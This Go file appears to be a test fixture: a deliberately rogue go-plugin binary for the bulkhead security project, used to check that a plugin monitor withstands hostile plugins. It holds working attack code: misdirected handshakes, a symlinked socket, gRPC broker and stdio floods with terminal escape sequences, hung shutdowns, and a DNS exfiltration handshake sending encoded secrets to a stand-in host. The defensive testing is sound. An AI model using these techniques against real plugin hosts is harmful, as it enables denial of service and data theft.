package rogue

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/bulkhead-sec/bulkhead/backends/goplugin/wire"
	plugin "github.com/hashicorp/go-plugin"
	"google.golang.org/grpc"
	"google.golang.org/protobuf/encoding/protowire"
)

// StartAttacks are the attacks made before Init, when the monitor has not
// sent a configuration yet: they are chosen by the binary's name,
// bulkhead-plugin-rogue@ATTACK[@ARG], ARG in unpadded base64url (see
// StartName). If the environment has BULKHEAD_ROGUE_ARM, they are made
// only while the file it names exists (a test arms them for a restart).
var StartAttacks = []string{"dial-tcp", "dial-dns", "dial-unix", "dial-symlink", "broker-flood", "stdio-flood", "huge-definition"}

// StartName is the name of the rogue binary that makes start attack
// attack with argument arg.
func StartName(attack, arg string) string {
	n := "bulkhead-plugin-rogue@" + attack
	if arg != "" {
		n += "@" + base64.RawURLEncoding.EncodeToString([]byte(arg))
	}
	return n
}

// startAttack is the start attack of this binary's name, and its argument.
func startAttack() (attack, arg string) {
	parts := strings.Split(filepath.Base(os.Args[0]), "@")
	if len(parts) < 2 {
		return "", ""
	}
	if f := os.Getenv("BULKHEAD_ROGUE_ARM"); f != "" {
		if _, err := os.Stat(f); err != nil {
			return "", ""
		}
	}
	if len(parts) > 2 {
		b, _ := base64.RawURLEncoding.DecodeString(parts[2])
		arg = string(b)
	}
	return parts[1], arg
}

// handshake prints a go-plugin handshake line naming network and addr,
// instead of a socket the rogue serves, and waits to be killed.
func handshake(network, addr string) {
	fmt.Printf("%d|%d|%s|%s|%s\n", plugin.CoreProtocolVersion, wire.ProtocolVersion, network, addr, plugin.ProtocolGRPC)
	time.Sleep(time.Hour)
	os.Exit(0)
}

// dial makes a start attack on where the monitor connects, if the name
// asks for one; it returns if not.
func dial(attack, arg string) {
	switch attack {
	case "dial-tcp":
		handshake("tcp", arg)
	case "dial-dns":
		// What a plugin would smuggle out in a DNS query.
		handshake("tcp", hex.EncodeToString([]byte("secret from the enclave"))+".exfil.example.invalid:443")
	case "dial-unix":
		handshake("unix", arg)
	case "dial-symlink":
		// A link in the plugin's own directory to a socket elsewhere.
		link := filepath.Join(os.TempDir(), fmt.Sprintf("rogue-%d.sock", os.Getpid()))
		if err := os.Symlink(arg, link); err != nil {
			fmt.Fprintln(os.Stderr, "rogue: symlink:", err)
		}
		handshake("unix", link)
	}
}

// Flood sizes: how many messages, of how many bytes.
const (
	floodMessages = 400_000
	floodBytes    = 16
)

// streamAttack answers the streams go-plugin's client opens on its own
// (its broker's, its stdio's) with a flood, for the start attack that
// asks for it; the rest go to go-plugin's handlers.
func streamAttack(attack string, stderr io.Writer) grpc.StreamServerInterceptor {
	return func(srv any, ss grpc.ServerStream, info *grpc.StreamServerInfo, handler grpc.StreamHandler) error {
		var msg func(i int) []byte
		switch {
		case attack == "broker-flood" && info.FullMethod == "/plugin.GRPCBroker/StartStream":
			// ConnInfo{service_id: i, network: "unix", address: 16 bytes}:
			// go-plugin's client keeps each for 5 s, with a goroutine.
			msg = func(i int) []byte {
				b := protowire.AppendTag(nil, 1, protowire.VarintType)
				b = protowire.AppendVarint(b, uint64(i+1))
				b = protowire.AppendTag(b, 2, protowire.BytesType)
				b = protowire.AppendString(b, "unix")
				b = protowire.AppendTag(b, 3, protowire.BytesType)
				return protowire.AppendString(b, strings.Repeat("a", floodBytes))
			}
		case attack == "stdio-flood" && info.FullMethod == "/plugin.GRPCStdio/StreamStdio":
			// StdioData{channel: STDERR, data}: forwarded to the monitor's log.
			line := []byte(strings.Repeat("\x1b[2J", 4096) + "\n")
			msg = func(int) []byte {
				b := protowire.AppendTag(nil, 1, protowire.VarintType)
				b = protowire.AppendVarint(b, 2)
				b = protowire.AppendTag(b, 2, protowire.BytesType)
				return protowire.AppendBytes(b, line)
			}
		default:
			return handler(srv, ss)
		}
		notice(stderr, info.FullMethod+" opened by the monitor: flooding it")
		for i := range floodMessages {
			m := raw(msg(i))
			if err := ss.SendMsg(&m); err != nil {
				return err
			}
		}
		<-ss.Context().Done()
		return nil
	}
}

// unaryAttack makes Close and go-plugin's Shutdown never answer, for the
// attack ignore-close, or Shutdown alone, for ignore-shutdown (set by Init).
func (s *server) unaryAttack(ctx context.Context, req any, info *grpc.UnaryServerInfo, handler grpc.UnaryHandler) (any, error) {
	shutdown := info.FullMethod == "/plugin.GRPCController/Shutdown"
	if s.c.Attack == "ignore-close" && (info.FullMethod == wire.Detector_Close_FullMethodName || shutdown) || s.c.Attack == "ignore-shutdown" && shutdown {
		notice(s.stderr, info.FullMethod+": never answering")
		select {}
	}
	return handler(ctx, req)
}

// notice is a warning line on the plugin's stderr, for the monitor's log.
func notice(w io.Writer, msg string) {
	fmt.Fprintf(w, "{\"@level\":\"warn\",\"@message\":%q}\n", "rogue: "+msg)
}
